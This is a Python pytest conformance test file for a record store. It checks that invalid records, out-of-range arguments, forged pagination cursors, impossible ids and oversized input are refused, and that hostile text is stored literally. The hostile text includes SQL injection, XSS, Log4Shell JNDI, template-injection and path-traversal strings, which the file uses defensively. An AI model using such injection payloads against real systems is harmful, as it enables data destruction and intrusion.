"""Bad input: refused clearly, or stored and compared literally, never misread."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any, cast

import pytest

from contracts.capabilities import Capability
from contracts.conformance.suite import data
from contracts.errors import InvalidCursor, NotFound, ValidationFailed
from contracts.models.entities import Entity
from contracts.query import Eq, In, OrderKey, SearchQuery
from contracts.store import CaseStore

_HOSTILE_LABELS = [
    "Robert'); DROP TABLE entities;--",
    "' OR '1'='1",
    '"; DELETE FROM links; --',
    "%",
    "_",
    "*",
    "\\",
    "a\\%b",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.invalid/x}",
    "{{7*7}}",
    "\u202eevil\u202c",
    "\x1b[31mred\x1b[0m",
    "tab\tand\nnewline\r",
    "\x01\x02\x7f",
    "$where: 1",
    "' || pg_sleep(10) --",
    "x" * 500,
]


@pytest.mark.requirement("INPUT-001")
def test_writes_refuse_things_that_are_not_records(store: CaseStore) -> None:
    """Dicts, strings and None are refused by create and update."""
    for thing in ({"id": "e-1", "kind": "PERSON"}, "entity e-1", None, 42):
        with pytest.raises(ValidationFailed):
            store.create(cast(Any, thing))
        with pytest.raises(ValidationFailed):
            store.update(cast(Any, thing), expected_version=1)
    assert store.list_records(Entity).items == ()


@pytest.mark.requirement("INPUT-002")
def test_search_refuses_anything_but_a_search_query(store: CaseStore) -> None:
    """A dict or a string is not a query, however much it looks like one."""
    store.create(data.entity("e-1"))
    for thing in ({"filter": None}, "kind:PERSON", Eq("kind", "PERSON")):
        with pytest.raises(ValidationFailed):
            store.search(cast(Any, thing))


_OUT_OF_RANGE: list[Any] = [
    pytest.param(lambda s: s.list_records(Entity, page_size=0), id="page-size-0"),
    pytest.param(lambda s: s.list_records(Entity, page_size=1_001), id="page-size-1001"),
    pytest.param(lambda s: s.list_records(Entity, page_size="7"), id="page-size-text"),
    pytest.param(
        lambda s: s.expand("e-1", direction="sideways"),
        marks=pytest.mark.capability(Capability.GRAPH_EXPAND),
        id="expand-direction",
    ),
    pytest.param(
        lambda s: s.neighbourhood("e-1", depth=-1),
        marks=pytest.mark.capability(Capability.GRAPH_NEIGHBOURHOOD),
        id="depth-negative",
    ),
    pytest.param(
        lambda s: s.neighbourhood("e-1", depth=11),
        marks=pytest.mark.capability(Capability.GRAPH_NEIGHBOURHOOD),
        id="depth-11",
    ),
    pytest.param(
        lambda s: s.neighbourhood("e-1", direction="up"),
        marks=pytest.mark.capability(Capability.GRAPH_NEIGHBOURHOOD),
        id="neighbourhood-direction",
    ),
    pytest.param(
        lambda s: s.shortest_paths("e-1", "e-1", max_depth=11),
        marks=pytest.mark.capability(Capability.GRAPH_SHORTEST_PATHS),
        id="max-depth-11",
    ),
    pytest.param(
        lambda s: s.shortest_paths("e-1", "e-1", max_paths=0),
        marks=pytest.mark.capability(Capability.GRAPH_SHORTEST_PATHS),
        id="max-paths-0",
    ),
    pytest.param(
        lambda s: s.shortest_paths("e-1", "e-1", max_paths=10_001),
        marks=pytest.mark.capability(Capability.GRAPH_SHORTEST_PATHS),
        id="max-paths-10001",
    ),
    pytest.param(
        lambda s: s.shortest_paths("e-1", "e-1", direction="any"),
        marks=pytest.mark.capability(Capability.GRAPH_SHORTEST_PATHS),
        id="paths-direction",
    ),
    pytest.param(
        lambda s: s.upsert_many([], batch_size=0),
        marks=pytest.mark.capability(Capability.BULK_UPSERT),
        id="batch-size-0",
    ),
    pytest.param(
        lambda s: s.upsert_many([], batch_size=50_001),
        marks=pytest.mark.capability(Capability.BULK_UPSERT),
        id="batch-size-50001",
    ),
]


@pytest.mark.requirement("INPUT-003")
@pytest.mark.parametrize("call", _OUT_OF_RANGE)
def test_arguments_outside_their_ranges_are_refused(
    store: CaseStore, call: Callable[[CaseStore], object]
) -> None:
    """Page sizes, depths, directions, path counts and batch sizes are checked."""
    store.create(data.entity("e-1"))
    with pytest.raises(ValidationFailed):
        call(store)


def _decode(cursor: str) -> dict[str, Any]:
    raw = base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4))
    decoded: dict[str, Any] = json.loads(raw)
    return decoded


def _encode(payload: dict[str, Any]) -> str:
    raw = json.dumps(payload).encode("utf-8")
    return base64.urlsafe_b64encode(raw).decode("ascii").rstrip("=")


@pytest.mark.requirement("INPUT-004", "READ-006")
def test_tampered_listing_cursors_are_refused(store: CaseStore) -> None:
    """Truncated, altered and made-up cursors raise InvalidCursor."""
    for entity_id in data.ids("e", 4):
        store.create(data.entity(entity_id))
    cursor = store.list_records(Entity, page_size=2).next_cursor
    assert cursor is not None
    payload = _decode(cursor)
    tampered = [
        cursor[:-4],
        cursor[:5],
        cursor + "A",
        "!!!!",
        "x" * 4_096,
        _encode({**payload, "s": "0" * 16}),
        _encode({**payload, "f": 99}),
        _encode({**payload, "i": 7}),
        _encode({**payload, "k": ["extra"]}),
        _encode({"unrelated": True}),
        base64.urlsafe_b64encode(b"\xff\xfe").decode("ascii"),
    ]
    for bad in tampered:
        with pytest.raises(InvalidCursor):
            store.list_records(Entity, page_size=2, cursor=bad)
    rest = store.list_records(Entity, page_size=2, cursor=cursor)
    assert [entity.id for entity in rest.items] == ["e-02", "e-03"]


@pytest.mark.requirement("INPUT-004")
@pytest.mark.capability(Capability.SEARCH_ORDER)
def test_a_search_cursor_holding_values_of_the_wrong_type_is_refused(store: CaseStore) -> None:
    """A cursor edited to hold a number where the order key holds text is refused."""
    for entity_id in data.ids("e", 4):
        store.create(data.entity(entity_id, label=f"L{entity_id}"))
    query = SearchQuery(order_by=(OrderKey(field="label"),), page_size=2)
    cursor = store.search(query).next_cursor
    assert cursor is not None
    payload = _decode(cursor)
    forged: list[list[Any]] = [[123], [True], [{"dt": "not a date"}], [[]], ["a", "b"]]
    for values in forged:
        bad = _encode({**payload, "k": values})
        with pytest.raises(ValidationFailed):
            store.search(query.model_copy(update={"cursor": bad}))
    with pytest.raises(InvalidCursor):
        store.search(query.model_copy(update={"cursor": "x" * 4_096}))


@pytest.mark.requirement("INPUT-005", "REC-005")
@pytest.mark.capability(Capability.SEARCH_FILTER)
def test_hostile_text_is_stored_returned_and_compared_literally(store: CaseStore) -> None:
    """SQL, wildcards, template syntax, escape codes and control characters stay plain text."""
    for number, label in enumerate(_HOSTILE_LABELS):
        store.create(data.entity(f"h-{number:02d}", label=label, description=label * 10))
    store.create(data.entity("h-long", label="long", description="y" * 10_000))
    for number, label in enumerate(_HOSTILE_LABELS):
        entity_id = f"h-{number:02d}"
        got = store.get(Entity, entity_id)
        assert (got.label, got.description) == (label, label * 10)
        found = store.search(SearchQuery(filter=Eq("label", label))).items
        assert [entity.id for entity in found] == [entity_id], repr(label)
    everything = store.search(
        SearchQuery(filter=In("label", tuple(_HOSTILE_LABELS)), page_size=100)
    )
    assert len(everything.items) == len(_HOSTILE_LABELS)
    assert store.get(Entity, "h-long").description == "y" * 10_000
    long_match = store.search(SearchQuery(filter=Eq("description", "y" * 10_000))).items
    assert [entity.id for entity in long_match] == ["h-long"]
    assert len(store.list_records(Entity).items) == len(_HOSTILE_LABELS) + 1


@pytest.mark.requirement("INPUT-006")
def test_lookups_of_impossible_ids_find_nothing(store: CaseStore) -> None:
    """Ids no record could have are simply not found, even with wildcards in them."""
    store.create(data.entity("a"))
    store.create(data.entity("a1"))
    impossible = [
        "",
        " ",
        "a b",
        "%",
        "a%",
        "_",
        "a_",
        "*",
        "a*",
        "../a",
        "a/../a",
        "' OR '1'='1",
        "a'; --",
        "x" * 1_000,
        "a\x00",
        "\ud800",
    ]
    for record_id in impossible:
        with pytest.raises(NotFound):
            store.get(Entity, record_id)
    assert store.get_many(Entity, impossible) == []
    assert [e.id for e in store.get_many(Entity, [*impossible, "a"])] == ["a"]


@pytest.mark.requirement("INPUT-007", "REC-005")
@pytest.mark.capability(Capability.SEARCH_FILTER)
def test_text_in_another_normal_form_is_another_string(store: CaseStore) -> None:
    """NFC and NFD spellings are stored as given and do not equal each other."""
    composed, decomposed = "caf\u00e9", "cafe\u0301"
    store.create(data.entity("n-nfc", label=composed))
    store.create(data.entity("n-nfd", label=decomposed))
    assert store.get(Entity, "n-nfc").label == composed
    assert store.get(Entity, "n-nfd").label == decomposed
    assert [e.id for e in store.search(SearchQuery(filter=Eq("label", composed))).items] == [
        "n-nfc"
    ]
    assert [e.id for e in store.search(SearchQuery(filter=Eq("label", decomposed))).items] == [
        "n-nfd"
    ]


@pytest.mark.requirement("INPUT-008")
def test_oversized_input_is_refused_and_input_at_the_limits_kept_whole(store: CaseStore) -> None:
    """One more than a limit is refused; exactly the limit is stored in full."""
    at_limits = data.entity(
        "big",
        label="L" * 500,
        description="D" * 10_000,
        aliases=tuple(f"alias {number}" for number in range(50)),
        properties={f"p{number:03d}": number for number in range(200)},
        provenance=tuple({"source_system": f"system {n}"} for n in range(200)),
    )
    stored = store.create(at_limits)
    assert store.get(Entity, "big") == stored
    assert len(stored.properties) == 200
    too_big: list[dict[str, Any]] = [
        {"label": "L" * 501},
        {"description": "D" * 10_001},
        {"aliases": tuple(f"alias {number}" for number in range(51))},
        {"properties": {f"p{number:03d}": number for number in range(201)}},
        {"properties": {"Not_Snake": 1}},
        {"properties": {"p" * 65: 1}},
        {"properties": {"nan": float("nan")}},
        {"properties": {"inf": float("inf")}},
        {"properties": {"long": "v" * 10_001}},
        {"provenance": tuple({"source_system": f"system {n}"} for n in range(201))},
    ]
    for changes in too_big:
        with pytest.raises(ValidationFailed):
            stored.revise(**changes)
    assert store.get(Entity, "big") == stored
